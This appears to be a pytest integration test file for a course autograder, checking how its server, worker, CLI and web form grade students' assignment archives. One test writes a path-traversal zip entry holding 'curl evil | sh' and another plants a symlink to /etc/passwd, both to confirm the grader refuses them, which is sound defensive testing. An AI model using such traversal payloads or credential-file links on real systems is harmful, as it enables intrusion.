"""The whole assignment handed in, end to end (issue 12, item 1): a real server, a real worker, the CLI, a browser.

One server (werkzeug in a thread, on the embedded defaults: SQLite and the filesystem broker) and one real
``grader worker`` process serve every test here. The three archives a student can make are graded through
``grader submit --all``: the 2017 folder zip, the 2021+ a1_code_submission.zip (the assignments that exist
here are found, the others ignored), and the assignment folder itself. A student then uploads the zip on
the assignments page in headless Chromium and reads each assignment's report.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import threading
import zipfile
from pathlib import Path
from typing import Any, Iterator

import pytest
from service_fixtures import (
    FAST_RELIABILITY,
    PASSWORD,
    SUBMISSIONS,
    People,
    Process,
    free_port,
    grader_script,
    make_app,
    make_course,
    service_env,
    start_worker,
    wait_for_heartbeat,
)
from test_archives import NOTEBOOK, NET, SOFTMAX, SVM, code_submission_2021, folder_zip_2017, zip_of

from grader.models import Submission

CHROMIUM = os.environ.get("GRADER_TEST_CHROMIUM", "/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run", "--disable-dev-shm-usage"]
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
BUGGY_SVM = (SUBMISSIONS / "svm" / "bug_half_reg.py").read_bytes()
FULL = {"svm": 35.0, "softmax": 39.0, "two_layer_net": 29.0}  # max_score of each, all visible to the instructor
FC_NET = SUBMISSIONS / "fc_net" / "correct_course"  # the 2021+ edition's two files, correct
# How long a test waits for its gradings: about 30 s in all on an idle 2-core machine, many minutes when the
# machine is shared (one worker grades the archive's assignments one after the other). Only a bound on a hang.
GRADING_WAIT = 600


class Site:
    def __init__(self, base: str, app: Any, people: People, worker: Process, tmp: Path) -> None:
        self.base, self.app, self.people, self.worker, self.tmp = base, app, people, worker, tmp


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    from werkzeug.serving import make_server

    tmp = tmp_path_factory.mktemp("archives")
    course = make_course(tmp / "course", "max_submissions_per_hour = 20", ("svm", "softmax", "two_layer_net", "fc_net"))
    # Fast sweeps and heartbeats, but a grading's time limits well above what a loaded machine needs: with the
    # fault tests' 9 s a buggy svm graded under load was killed twice and the worker stopped taking tasks.
    reliability = dict(FAST_RELIABILITY, task_soft_time_limit=GRADING_WAIT, task_time_limit=GRADING_WAIT + 10,
                       lease_seconds=GRADING_WAIT + 20)
    settings = dict(instance_path=tmp / "instance", assignments_dir=course, **reliability)
    app = make_app(tmp / "instance", **{k.upper(): v for k, v in settings.items() if k != "instance_path"})
    people = People(app)
    people.add("alice")
    people.add("bob")
    worker = start_worker(tmp, "worker", **settings)
    server = make_server("127.0.0.1", free_port(), app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        wait_for_heartbeat(app, timeout=60, process=worker)
        yield Site(f"http://127.0.0.1:{server.server_port}", app, people, worker, tmp)
    finally:
        server.shutdown()
        worker.stop()
        app.extensions["grader"].db.engine.dispose()


def submit_all(site: Site, who: str, target: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = service_env()
    env.update(GRADER_SERVER=site.base, GRADER_TOKEN=site.people.tokens[who], NO_COLOR="1",
               XDG_CONFIG_HOME=str(site.tmp / "config"))
    return subprocess.run([grader_script(), "submit", "--all", str(target), *args], capture_output=True, text=True,
                          env=env, timeout=GRADING_WAIT + 60)


def test_the_2017_folder_zip_is_graded_per_assignment(site: Site) -> None:
    archive = site.tmp / "assignment1.zip"
    archive.write_bytes(folder_zip_2017())
    done = submit_all(site, "alice", archive, "--wait", "--json", "--timeout", str(GRADING_WAIT))
    assert done.returncode == 0, done.stderr + site.worker.output()[-3000:]
    body = json.loads(done.stdout)
    graded = {s["assignment"]: s for s in body["submissions"]}
    assert set(graded) == {"svm", "softmax", "two_layer_net"}
    assert body["missing"] == [{"assignment": "fc_net", "files": ["cs231n/layers.py", "cs231n/classifiers/fc_net.py"]}]
    for aid, sub in graded.items():
        assert sub["status"] == "graded" and sub["report"]["status"] == "graded", sub
        # Correct code: every visible point earned (the hidden tests' points are masked for a student).
        assert sub["report"]["score"] == sub["report"]["max_score"] > 0, (aid, sub["report"]["score"])
    # What the student was told before anything was queued, on stderr (stdout is the JSON alone).
    assert "found svm: assignment1/cs231n/classifiers/linear_svm.py -> submission" in done.stderr
    assert re.search(r"ignored \d+ files: assignment1/", done.stderr)
    with site.app.extensions["grader"].db.session() as session:
        for aid, sub in graded.items():
            row = session.get(Submission, sub["id"])
            assert row.status == "graded" and row.score == FULL[aid], (aid, row.score)


def test_the_2021_code_submission_grades_what_exists_here(site: Site) -> None:
    """The linear classifiers and the modular net of the 2021+ edition are found (fc_net from its two paths,
    beside the course's layer_utils.py); the 2017 net is missing."""
    with zipfile.ZipFile(io.BytesIO(code_submission_2021())) as made:
        files = {name: made.read(name) for name in made.namelist()}
    files["cs231n/layers.py"] = (FC_NET / "layers.py").read_bytes()
    files["cs231n/classifiers/fc_net.py"] = (FC_NET / "fc_net.py").read_bytes()
    files["cs231n/layer_utils.py"] = b"from .layers import *\n"
    archive = site.tmp / "a1_code_submission.zip"
    archive.write_bytes(zip_of(files))
    with site.app.extensions["grader"].db.session() as session:
        before = session.query(Submission).count()
    checked = submit_all(site, "bob", archive, "--dry-run")
    assert checked.returncode == 0, checked.stderr
    assert "would submit softmax: cs231n/classifiers/softmax.py" in checked.stdout
    assert checked.stdout.rstrip().endswith("nothing was submitted (--dry-run)")
    with site.app.extensions["grader"].db.session() as session:
        assert session.query(Submission).count() == before
    done = submit_all(site, "bob", archive, "--wait", "--timeout", str(GRADING_WAIT))
    assert done.returncode == 0, done.stderr + site.worker.output()[-3000:]
    out = done.stdout
    assert "missing two_layer_net: no neural_net.py in a1_code_submission.zip (not submitted)" in out
    assert "ignored 10 files: knn.ipynb" in out  # 5 notebooks, knn, linear_classifier, optim, solver, layer_utils
    assert "found fc_net: cs231n/classifiers/fc_net.py, cs231n/layers.py -> submission" in out
    for aid in ("fc_net", "softmax", "svm"):
        assert re.search(rf"== {aid}: submission \d+ ==", out), out
    assert out.count("Score:") == 3 and "Traceback" not in done.stderr
    with site.app.extensions["grader"].db.session() as session:
        net = session.query(Submission).filter_by(assignment_id="fc_net").one()
        assert net.status == "graded" and net.score == net.max_score > 0, (net.score, net.max_score)
        assert {f.filename for f in net.files} == {"cs231n/layers.py", "cs231n/classifiers/fc_net.py"}


def test_the_assignment_folder_is_zipped_and_graded(site: Site) -> None:
    folder = site.tmp / "assignment1"
    classifiers = folder / "cs231n" / "classifiers"
    classifiers.mkdir(parents=True)
    (classifiers / "linear_svm.py").write_bytes(BUGGY_SVM)
    (classifiers / "softmax.py").write_bytes(SOFTMAX)
    (classifiers / "neural_net.py").write_bytes(NET)
    (folder / "svm.ipynb").write_bytes(NOTEBOOK)
    (folder / "cs231n" / "datasets").mkdir()
    (folder / "cs231n" / "datasets" / "linear_svm.py").write_bytes(b"broken(")  # left out, as collectSubmission does
    (folder / ".git").mkdir()
    (folder / ".git" / "softmax.py").write_bytes(b"broken(")
    (folder / "cs231n" / "layers.py").symlink_to("/etc/passwd")  # not followed, not sent
    done = submit_all(site, "alice", folder, "--wait", "--json", "--timeout", str(GRADING_WAIT))
    assert done.returncode == 0, done.stderr + site.worker.output()[-3000:]
    body = json.loads(done.stdout)
    graded = {s["assignment"]: s for s in body["submissions"]}
    assert set(graded) == {"svm", "softmax", "two_layer_net"}
    assert [m["assignment"] for m in body["missing"]] == ["fc_net"]
    assert graded["svm"]["archive_files"] == {"cs231n/classifiers/linear_svm.py": "linear_svm.py"}
    assert all(s["status"] == "graded" for s in graded.values()), \
        {aid: (s["status"], (s.get("report") or {}).get("tests", [{}])[:1]) for aid, s in graded.items()}
    assert graded["svm"]["report"]["score"] < graded["svm"]["report"]["max_score"]  # the 0.5*reg bug
    assert any("0.5" in t["output"] for t in graded["svm"]["report"]["tests"] if t["status"] == "failed")
    assert graded["softmax"]["report"]["score"] == graded["softmax"]["report"]["max_score"]
    ignored = {i["path"] for i in body["ignored"]}
    assert ignored == set()  # only .py files were packed, and every one was used
    unreadable = submit_all(site, "alice", site.tmp / "nowhere")
    assert unreadable.returncode == 2 and "cannot read" in unreadable.stderr


def test_a_hostile_archive_through_the_cli_queues_nothing(site: Site) -> None:
    archive = site.tmp / "evil.zip"
    archive.write_bytes(zip_of({"cs231n/classifiers/linear_svm.py": SVM, "../../.bashrc": b"curl evil | sh\n"}))
    with site.app.extensions["grader"].db.session() as session:
        before = session.query(Submission).count()
    done = submit_all(site, "alice", archive)
    assert done.returncode == 2
    assert done.stderr.strip() == ("error: evil.zip is refused: the entry '../../.bashrc' has '..' in its path; "
                                   "nothing was submitted")
    with site.app.extensions["grader"].db.session() as session:
        assert session.query(Submission).count() == before


def test_a_notebook_through_the_cli_is_refused_naming_the_file_and_counts_for_nothing(site: Site) -> None:
    """Item 2 on the CLI: `grader submit`, `grader grade` and `grader check` refuse an .ipynb and a .py holding
    notebook JSON with the .py file to use instead (exit 2); nothing is submitted or counted."""
    nb_dir = site.tmp / "notebooks"
    nb_dir.mkdir()
    (nb_dir / "svm.ipynb").write_bytes(NOTEBOOK)
    (nb_dir / "linear_svm.py").write_bytes(NOTEBOOK)
    env = service_env()
    env.update(GRADER_SERVER=site.base, GRADER_TOKEN=site.people.tokens["bob"], NO_COLOR="1",
               XDG_CONFIG_HOME=str(site.tmp / "config"))

    def grader(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([grader_script(), *args], capture_output=True, text=True, env=env, timeout=180)

    with site.app.extensions["grader"].db.session() as session:
        before = session.query(Submission).count()
    for name, what in (("svm.ipynb", "is a Jupyter notebook"), ("linear_svm.py", "contains a Jupyter notebook (JSON)")):
        path = str(nb_dir / name)
        for args, action in ((("submit", "svm", path), "Upload"), (("grade", "svm", path), "Give it"),
                             (("check", "svm", path), "Give it")):
            done = grader(*args)
            assert done.returncode == 2, (args, done.stdout, done.stderr)
            assert f"{name} {what}, not Python source" in done.stderr, (args, done.stderr)
            assert f"{action} linear_svm.py instead" in done.stderr, (args, done.stderr)
            assert "Traceback" not in done.stderr and "Score:" not in done.stdout
    # The course's notebooks are data (assignment.toml's `notebooks`): the local check names where its functions are.
    assert "(svm.ipynb only calls the functions you write in cs231n/classifiers/linear_svm.py)" in \
        grader("grade", "svm", str(nb_dir / "svm.ipynb")).stderr
    # A notebook with its plots is over the 512 KiB file limit: still told it is a notebook, not its size.
    big = json.loads(NOTEBOOK)
    big["cells"][0]["outputs"] = [{"output_type": "display_data", "data": {"image/png": "A" * 700_000}}]
    (nb_dir / "two_layer_net.ipynb").write_text(json.dumps(big))
    large = grader("submit", "two_layer_net", str(nb_dir / "two_layer_net.ipynb"))
    assert large.returncode == 2 and "two_layer_net.ipynb is a Jupyter notebook" in large.stderr, large.stderr
    assert "Upload neural_net.py instead" in large.stderr and "512 KiB" not in large.stderr
    # The 2021+ edition's two files: the message names both.
    fc = grader("grade", "fc_net", str(nb_dir / "svm.ipynb"), str(FC_NET / "fc_net.py"))
    assert fc.returncode == 2 and "Give it cs231n/layers.py and cs231n/classifiers/fc_net.py instead" in fc.stderr
    # Sent as the archive: the server refuses it with its message, and counts nothing.
    as_archive = grader("submit", "--all", str(nb_dir / "svm.ipynb"))
    assert as_archive.returncode == 2 and "svm.ipynb is not an archive" in as_archive.stderr, as_archive.stderr
    assert "Jupyter notebook" in as_archive.stderr
    with site.app.extensions["grader"].db.session() as session:
        assert session.query(Submission).count() == before


# --------------------------------------------------------------------------- the web form, in a browser


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not Path(CHROMIUM).is_file():
        pytest.fail(f"the browser tests need Chromium at {CHROMIUM}: `make test` installs it", pytrace=False)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


def test_a_student_uploads_the_zip_on_the_web_and_reads_each_report(site: Site, browser: Any) -> None:
    site.people.add("carol")
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(60_000)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(site.base + "/")
    page.get_by_label("Email").fill("carol@example.edu")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(site.base + "/assignments")

    archive = zip_of({"a1/cs231n/classifiers/linear_svm.py": BUGGY_SVM, "a1/cs231n/classifiers/softmax.py": SOFTMAX,
                      "a1/svm.ipynb": NOTEBOOK, "a1/softmax.ipynb": NOTEBOOK})
    page.get_by_label("The zip of your assignment folder").set_input_files(
        files=[{"name": "assignment1.zip", "mimeType": "application/zip", "buffer": archive}])
    ARTIFACTS.mkdir(exist_ok=True)
    page.locator("#archive-heading").scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "student-archive-form.png"))
    page.get_by_role("button", name="Submit the archive").click()
    page.wait_for_url(site.base + "/submissions")
    flashes = page.locator(".flash").all_inner_texts()
    assert re.match(r"assignment1\.zip: 2 submissions received: #\d+ softmax \(a1/cs231n/classifiers/softmax\.py\); "
                    r"#\d+ svm \(a1/cs231n/classifiers/linear_svm\.py\)\.", flashes[0]), flashes
    assert flashes[1] == ("Not in the archive, so not submitted: fc_net (no cs231n/layers.py, "
                          "cs231n/classifiers/fc_net.py); two_layer_net (no neural_net.py).")
    assert flashes[2].startswith("Ignored 2 files") and "a1/svm.ipynb" in flashes[2]
    page.screenshot(path=str(ARTIFACTS / "student-archive-upload.png"), full_page=True)

    scores = {}
    for aid in ("svm", "softmax"):
        page.goto(site.base + "/submissions")
        row = page.locator("tr", has=page.get_by_role("link", name=aid, exact=True))
        row.get_by_role("link", name=re.compile(r"^#\d+$")).click()
        page.wait_for_url(re.compile(r".*/submissions/\d+$"))
        # The page follows the grading and reloads when it is done.
        page.locator(".big-score").wait_for(timeout=GRADING_WAIT * 1000)
        assert page.locator("#status-badge").inner_text() == "Graded"
        scores[aid] = page.locator(".report-summary").inner_text()
    assert "/ 33 points" in scores["svm"] and "/ 37 points" in scores["softmax"], scores
    got = {aid: re.search(r"([\d.]+)\s*/ (33|37) points", text) for aid, text in scores.items()}
    assert got["svm"] and got["softmax"], scores
    assert got["svm"].group(1) != "33" and got["softmax"].group(1) == "37", scores
    assert errors == []
    context.close()
